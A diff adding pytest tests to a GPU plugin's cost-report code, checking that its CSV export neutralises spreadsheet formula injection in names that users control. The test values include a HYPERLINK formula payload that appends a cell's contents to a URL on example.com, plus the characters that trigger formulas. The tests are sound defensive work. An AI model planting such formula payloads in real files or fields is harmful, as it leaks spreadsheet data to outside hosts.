@@ -6,6 +6,8 @@ import csv
 import io
 from fractions import Fraction
 
+import pytest
+
 from gpu_device_plugin.core.cost.accounting import NOBODY, Account, Holder, Key, Part, Period
 from gpu_device_plugin.core.cost.charges import By, Rate, cents, rows
 from gpu_device_plugin.core.report.tables.cost_forms import UNKNOWN, Costs, cost_document, cost_table, focus_csv
@@ -198,3 +200,23 @@ def test_a_charge_is_named_by_the_least_that_is_known() -> None:
     )
     assert next(by_pod)["ResourceName"] == "web-1"
     assert next(by_namespace)["ResourceName"] == "ml"
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_no_spreadsheet_computes_what_somebody_wrote_as_a_name(first: str) -> None:
+    """An owner's name, and with the logs of agents also a namespace or a model, is any text that somebody chose."""
+    formula = f'{first}HYPERLINK("https://example.com?q="&A1)'
+    forged = Key(Holder(formula, "", formula, "p"), formula)
+    found = costs(By.OWNER, parts={(forged, Part.USED): Fraction(3600)}, models=True)
+    written = focus_csv(found, RATES, "lab")
+    (row,) = csv.DictReader(io.StringIO(written, newline=""))
+    assert {row[column] for column in ("SubAccountId", "ResourceName", "SkuId")} == {f"'{formula}"}
+    assert not [value for value in row.values() if value.startswith(first)]
+
+
+def test_no_semicolon_begins_a_cell_of_its_own() -> None:
+    """Spreadsheets of many languages divide a line at semicolons."""
+    forged = Key(Holder("ml", "Deployment", 'x;=HYPERLINK("https://example.com")', "p"), "T4")
+    written = focus_csv(costs(By.OWNER, parts={(forged, Part.USED): Fraction(3600)}, models=True), RATES, "lab")
+    (row,) = list(csv.reader(io.StringIO(written), delimiter=";"))[1:]
+    assert not [cell for cell in row if cell.startswith("=")]
